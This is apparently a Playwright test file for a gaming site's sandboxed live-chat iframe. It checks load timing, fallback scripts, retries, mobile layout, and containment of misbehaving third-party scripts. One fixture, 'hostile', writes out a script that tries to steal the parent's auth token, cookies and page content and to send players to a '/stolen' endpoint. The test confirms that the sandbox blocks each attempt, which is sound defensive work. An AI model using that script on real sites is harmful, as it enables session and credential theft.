import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join as joinPath } from 'node:path';
import type { Page } from '@playwright/test';
import { expect, test as base } from './fixtures.ts';
import { enter, join, signIn } from './player.ts';

/** A third-party server on its own loopback origin: scripts by path, and the requested paths. */
interface ThirdParty {
  readonly url: string;
  readonly scripts: Map<string, string>;
  readonly asked: { readonly path: string; readonly at: number }[];
}

const file = (settings: object): string => {
  const path = joinPath(mkdtempSync(joinPath(tmpdir(), 'farspin-chat-')), 'Settings.json');
  writeFileSync(path, JSON.stringify(settings));
  return path;
};

interface Fixtures {
  readonly chat: object;
  readonly panelPx: number;
  readonly thirdParty: ThirdParty;
}
const test = base.extend<Fixtures>({
  chat: [{ kind: 'tawk', startDelayMs: 1_500 }, { option: true }],
  panelPx: [320, { option: true }],
  // oxlint-disable-next-line no-empty-pattern -- playwright reads the names of what a fixture needs from here
  thirdParty: async ({}, use) => {
    const scripts = new Map<string, string>();
    const asked: ThirdParty['asked'] = [];
    const server: Server = createServer(({ url = '' }, response) => {
      const path = url.split('?')[0] ?? '';
      asked.push({ path, at: Date.now() });
      const script = scripts.get(path);
      response.writeHead(script === undefined ? 404 : 200, { 'Content-Type': 'text/javascript' }).end(script);
    });
    await new Promise<void>((resolve) => {
      server.listen(0, '127.0.0.1', resolve);
    });
    const { port } = server.address() as AddressInfo;
    await use({ url: `http://127.0.0.1:${port}`, scripts, asked });
    server.close();
  },
  serveArgs: async ({ chat, panelPx, thirdParty }, use) => {
    const addresses = { scriptUrl: `${thirdParty.url}/chat.js?license=77`, standbyUrl: `${thirdParty.url}/standby.js` };
    await use(['--settings', file({ chat: { ...addresses, ...chat }, sizes: { chatPanelPx: panelPx } })]);
  },
});

const panel = (page: Page) => page.getByTestId('chat');
const frame = (page: Page) => page.frameLocator('iframe[title="Live chat"]');
const writes = (text: string): string => `document.body.textContent = ${text};`;

test('the chat loads after its delay, shows the unread count, opens beside the page and ends with the sign-in', async ({
  page,
  thirdParty,
}) => {
  thirdParty.scripts.set(
    '/chat.js',
    `${writes("'tawk ' + typeof Tawk_API")} Tawk_API.maximize = () => ${writes("'at your service'")}
     Tawk_API.onLoad(); Tawk_API.onUnreadCountChanged(3);`,
  );
  await page.goto('/login');
  const before = Date.now();
  await signIn(page);
  const open = page.getByRole('button', { name: 'Open live chat: 3 new messages' });
  await expect(open).toBeVisible();
  await expect(panel(page)).toBeHidden();
  const isWhole = await open.getByTitle('3 new messages').evaluate((count) => {
    const { left, right, top, bottom } = count.getBoundingClientRect();
    const [x, y] = [(left + right) / 2, (top + bottom) / 2];
    const edges: readonly (readonly [number, number])[] = [
      [right - 2, y],
      [x, top + 2],
      [left + 2, y],
      [x, bottom - 2],
    ];
    return edges.every(([atX, atY]) => count.contains(document.elementFromPoint(atX, atY)));
  });
  expect(isWhole).toBe(true);
  expect((thirdParty.asked[0]?.at ?? 0) - before).toBeGreaterThanOrEqual(1_500);
  await open.click();
  await expect(panel(page)).toHaveAttribute('data-stage', 'ready');
  await expect(frame(page).locator('body')).toHaveText('at your service');
  expect((await panel(page).boundingBox())?.width).toBe(320);
  const end = (await page.getByRole('banner').boundingBox()) ?? { x: 0, width: 0 };
  expect(end.x + end.width).toBeLessThanOrEqual(1_280 - 320);
  await panel(page).press('Escape');
  await expect(panel(page)).toBeHidden();
  await expect(page.getByRole('button', { name: 'Open live chat' })).toBeVisible();
  await expect(page.getByRole('button', { name: 'Open live chat' })).toBeFocused();
  // The next player must not see the previous player's messages.
  await page.evaluate(() => {
    history.pushState(null, '', '/logout');
    dispatchEvent(new PopStateEvent('popstate'));
  });
  await expect(page.getByLabel('Email/Username')).toBeVisible();
  await expect(page.locator('iframe')).toHaveCount(0);
});

test.describe('with a livechat', () => {
  test.use({ chat: { kind: 'livechat', startDelayMs: 0, standbyAfterMs: 300 }, panelPx: 370 });

  test('loads the standby script with the licence number from the chat URL if the chat script does not load in time', async ({
    page,
    thirdParty,
  }) => {
    thirdParty.scripts.set('/standby.js', writes('JSON.stringify([__lc.license, LiveChatWidget._q.at(-1)[1]])'));
    await enter(page);
    await page.getByRole('button', { name: 'Open live chat' }).click();
    await expect(frame(page).locator('body')).toHaveText('[77,["maximize"]]');
    expect((await panel(page).boundingBox())?.width).toBe(370);
    const [first, second] = thirdParty.asked;
    expect([first?.path, second?.path]).toEqual(['/chat.js', '/standby.js']);
    expect((second?.at ?? 0) - (first?.at ?? 0)).toBeGreaterThanOrEqual(250);
  });
});

test.describe('without a standby script', () => {
  test.use({ chat: { kind: 'livechat', startDelayMs: 0, standbyUrl: null } });

  test('reports a chat that fails to load, and the player can retry', async ({ page, thirdParty }) => {
    await enter(page);
    await page.getByRole('button', { name: 'Open live chat' }).click();
    await expect(panel(page).getByText('The chat could not be loaded.')).toBeVisible();
    thirdParty.scripts.set('/chat.js', writes("'here now'"));
    await panel(page).getByRole('button', { name: 'Try again' }).click();
    await expect(frame(page).locator('body')).toHaveText('here now');
  });
});

test.describe('without a livechat', () => {
  test.use({ chat: { kind: null } });

  test('shows no chat and sends no chat request', async ({ page, thirdParty }) => {
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await enter(page);
    await expect(page.getByRole('button', { name: 'Ember Lynx' })).toBeVisible();
    await page.waitForLoadState('networkidle');
    expect(asked.filter((url) => /chat/.test(new URL(url).pathname))).toEqual([]);
    expect(thirdParty.asked).toEqual([]);
  });
});

/** Tries every known way to attack the player, and reports each success to the third-party server. */
const hostile = (thirdParty: string) => `
  const found = [];
  const attempt = (what, run) => { try { const got = run(); if (got) found.push(what + ': ' + got); } catch {} };
  attempt('storage', () => parent.localStorage.getItem('farspin.token'));
  attempt('document', () => parent.document.body.innerHTML);
  attempt('own storage', () => Object.keys(Object.getPrototypeOf(window).localStorage ?? {}).join());
  attempt('frame storage', () => {
    const inner = document.body.appendChild(document.createElement('iframe'));
    return inner.contentWindow.localStorage.length + 1;
  });
  attempt('cookies', () => Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document));
  attempt('address', () => parent.location.href);
  attempt('frame element', () => frameElement && frameElement.ownerDocument.body.innerHTML);
  attempt('origin', () => (origin === 'null' ? '' : origin));
  attempt('top', () => { top.location = '${thirdParty}/stolen'; return ''; });
  attempt('parent', () => { parent.location.replace('${thirdParty}/stolen'); return ''; });
  attempt('popup', () => open('${thirdParty}/stolen'));
  attempt('eval', () => eval('"evaluated"'));
  attempt('form', () => {
    const form = document.body.appendChild(document.createElement('form'));
    form.action = '${thirdParty}/stolen'; form.target = '_top'; form.submit();
    return '';
  });
  const calls = ['/api/player/balance', '/Settings.json'].map((path) =>
    fetch(document.URL.replace('/chat.html', path), { credentials: 'include' })
      .then(async (answer) => found.push(path + ': ' + (await answer.text()))).catch(() => {}));
  addEventListener('message', ({ data }) => found.push('message: ' + JSON.stringify(data)));
  Promise.all(calls).then(() => { document.body.textContent = 'tried: ' + found.join('; '); });
`;

test.describe('with a hostile script', () => {
  // The frame's content security policy reports each attack attempt.
  test.use({ borne: /content security policy|csp-violation: \S+ .* http:\/\/127\.0\.0\.1:\d+\/chat\.js$|Fetch API/i });

  test(
    'a hostile script cannot read the token, reach the page or send a request outside',
    { tag: '@quick' },
    async ({ page, serve, thirdParty }) => {
      thirdParty.scripts.set('/chat.js', hostile(thirdParty.url));
      await page.context().addCookies([{ name: 'secret', value: 'cookie', url: serve.url }]);
      await enter(page);
      await page.getByRole('button', { name: 'Open live chat' }).click();
      await expect(frame(page).locator('body')).toHaveText('tried: ');
      expect(page.url()).toContain('/lobby');
      expect(page.context().pages()).toHaveLength(1);
      expect(thirdParty.asked.map(({ path }) => path)).toEqual(['/chat.js']);
      expect(await page.evaluate(() => localStorage.getItem('farspin.token'))).not.toBeNull();
    },
  );
});

test('the chat page has an opaque origin, even when opened directly', async ({ page }) => {
  await page.goto('/chat.html');
  expect(await page.evaluate(() => origin)).toBe('null');
  const storage = await page.evaluate(() => {
    try {
      return Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage')?.get?.call(window) ?? 'none';
    } catch {
      return 'refused';
    }
  });
  expect(storage).not.toBeNull();
  expect(['none', 'refused']).toContain(storage);
});

test('closes a chat whose script floods the page or navigates away, and the game continues', async ({
  page,
  thirdParty,
}) => {
  thirdParty.scripts.set(
    '/chat.js',
    `setTimeout(() => setInterval(() => { for (let i = 0; i < 500; i += 1) {
       parent.postMessage({ kind: 'unread', count: i }, '*'); Tawk_API.onUnreadCountChanged(i);
     } }, 5), 3_000);`,
  );
  await enter(page);
  await join(page, 'Ember Lynx', 'Ember Lynx 1');
  await page.getByRole('button', { name: 'Live chat' }).click();
  await expect(panel(page).getByText('The chat is not available right now.')).toBeVisible();
  await expect(page.locator('iframe')).toHaveCount(0);
  await page.getByRole('button', { name: 'Bet +' }).click();
  await expect(page.getByTestId('meter-bet')).toHaveAttribute('data-value', '1000');

  thirdParty.scripts.set('/chat.js', "location.href = '/login';");
  await panel(page).getByRole('button', { name: 'Try again' }).click();
  await expect(panel(page).getByText('The chat is not available right now.')).toBeVisible();
});

test('on a phone, the chat covers the game and turns off the keyboard shortcuts of the game', async ({
  page,
  thirdParty,
}) => {
  thirdParty.scripts.set('/chat.js', writes("'hello'"));
  await page.setViewportSize({ width: 360, height: 740 });
  await enter(page);
  await join(page, 'Ember Lynx', 'Ember Lynx 1');
  await expect(page.getByRole('button', { name: 'Open live chat' })).toHaveCount(0);
  await page.getByRole('button', { name: 'Picture, sound and session' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Live chat' }).click();
  await expect(frame(page).locator('body')).toHaveText('hello');
  const bet = page.getByTestId('meter-bet');
  const before = await bet.getAttribute('data-value');
  await page.keyboard.press('ArrowUp');
  await panel(page).getByRole('button', { name: 'Close' }).click();
  await expect(panel(page)).toBeHidden();
  expect(await bet.getAttribute('data-value')).toBe(before);
  await expect(page.getByRole('button', { name: 'Start' })).toBeEnabled();
  await page.keyboard.press('ArrowUp');
  await expect(bet).not.toHaveAttribute('data-value', before ?? '');
});
